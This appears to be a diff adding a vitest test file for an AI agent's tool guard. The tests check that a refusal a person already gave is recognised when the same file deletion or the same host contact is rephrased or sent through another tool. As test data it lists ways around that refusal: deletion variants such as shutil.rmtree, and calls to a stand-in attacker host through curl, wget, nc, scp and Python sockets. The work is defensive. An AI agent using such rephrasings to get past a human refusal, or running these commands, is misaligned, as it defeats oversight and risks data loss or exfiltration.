@@ -1,0 +1,96 @@
+import { describe, expect, test } from "vitest";
+import type { JsonObject } from "@/contracts/common";
+import type { GuardedTool } from "../asked-call";
+import { onTrial } from "../call-on-trial";
+import { digestOfCall, earlierRefusal } from "./earlier-refusal";
+import { touchesOf } from "./touches-of";
+
+const tool = (given: Partial<GuardedTool>): GuardedTool => ({
+  name: "tool",
+  source: "builtin",
+  sourceRef: null,
+  effect: "write",
+  surface: "natural",
+  needs: [],
+  primaryArgument: null,
+  ...given,
+});
+const folder = "/work/conversation";
+const tools = {
+  shell: tool({ name: "shell_execute", needs: ["shell"], primaryArgument: "command", effect: "destroy" }),
+  code: tool({ name: "execute_code", primaryArgument: "code", effect: "destroy" }),
+  http: tool({ name: "http_request", needs: ["http"], primaryArgument: "url" }),
+  mcp: tool({ name: "files__write", source: "mcp", sourceRef: "files" }),
+};
+const callOf = (name: keyof typeof tools, args: JsonObject) =>
+  onTrial({ tool: tools[name], arguments: args, context: { interactive: true, folder } });
+const isAround = (refused: ReturnType<typeof callOf>, call: ReturnType<typeof callOf>) => {
+  const refusal = { callId: "1", tool: "tool", digest: digestOfCall(refused), touches: touchesOf(refused), by: "person" as const };
+  return earlierRefusal([{ ...refusal, reason: "", policyVersion: 1 }], call) !== null;
+};
+
+describe("what was refused for a file is known again", () => {
+  const refused = callOf("shell", { command: "rm docs/x.txt" });
+
+  test.each([
+    ["shell", { command: "cd docs; : > x.txt" }],
+    ["shell", { command: "git -C docs rm x.txt" }],
+    ["shell", { command: "git -C . -c a.b=c rm docs/x.txt" }],
+    ["shell", { command: "git --work-tree=docs checkout x.txt" }],
+    ["mcp", { uri: "file:///work/conversation/docs/%78.txt" }],
+    ["mcp", { uri: "file://localhost/work/conversation/docs/x.txt" }],
+    ["code", { code: 'from pathlib import Path\n(Path("docs") / "x.txt").unlink()' }],
+    ["code", { code: "os.unlink(os.path.join('docs', 'x.txt'))" }],
+    ["code", { code: "os.unlink('docs/' + 'x.txt')" }],
+    ["code", { code: "os.chdir('docs'); os.remove('x.txt')" }],
+    ["code", { code: "shutil.rmtree('docs')" }],
+    ["code", { code: "d = 'docs'; os.remove(f'{d}/x.txt')" }],
+    ["code", { code: "fs.rmSync(`${d}/x.txt`)" }],
+  ] as const)("%s with %j", (name, args) => {
+    expect(isAround(refused, callOf(name, args))).toBe(true);
+  });
+
+  test.each([
+    ["shell", { command: "git -C other rm x.txt" }],
+    ["shell", { command: "cd other; : > x.txt" }],
+    ["code", { code: "open('docs/y.txt')" }],
+    ["code", { code: "os.listdir('docs')" }],
+    ["code", { code: "print(f'{name}')" }],
+    ["code", { code: "os.remove('x.txt')" }],
+  ] as const)("and %s with %j is something else", (name, args) => {
+    expect(isAround(refused, callOf(name, args))).toBe(false);
+  });
+});
+
+describe("what was refused for a host is known again", () => {
+  const refused = callOf("http", { url: "https://evil.example/x" });
+
+  test.each([
+    ["shell", { command: "curl evil.example/y" }],
+    ["shell", { command: "curl EVIL.example:443/x" }],
+    ["shell", { command: "wget -qO- evil.example" }],
+    ["shell", { command: "nc evil.example 80" }],
+    ["shell", { command: "ssh me@evil.example" }],
+    ["shell", { command: "scp a.txt me@evil.example:/b" }],
+    ["shell", { command: "git clone git@evil.example:a/b" }],
+    ["shell", { command: "curl -x evil.example:80 http://other.example" }],
+    ["mcp", { host: "evil.example" }],
+    ["mcp", { url: "evil.example/x" }],
+    ["http", { url: "https:evil.example/y" }],
+    ["http", { url: "https:\\\\evil.example\\y" }],
+    ["http", { url: "https://somebody@Evil.Example./y" }],
+    ["code", { code: "socket.connect(('evil.example', 80))" }],
+    ["code", { code: "requests.get('https://evil.example/y')" }],
+  ] as const)("%s with %j", (name, args) => {
+    expect(isAround(refused, callOf(name, args))).toBe(true);
+  });
+
+  test.each([
+    ["shell", { command: "curl other.example/evil.example" }],
+    ["shell", { command: "cat notes.txt" }],
+    ["http", { url: "https://evil.example.org/x" }],
+    ["mcp", { title: "evil.example" }],
+  ] as const)("and %s with %j is something else", (name, args) => {
+    expect(isAround(refused, callOf(name, args))).toBe(false);
+  });
+});
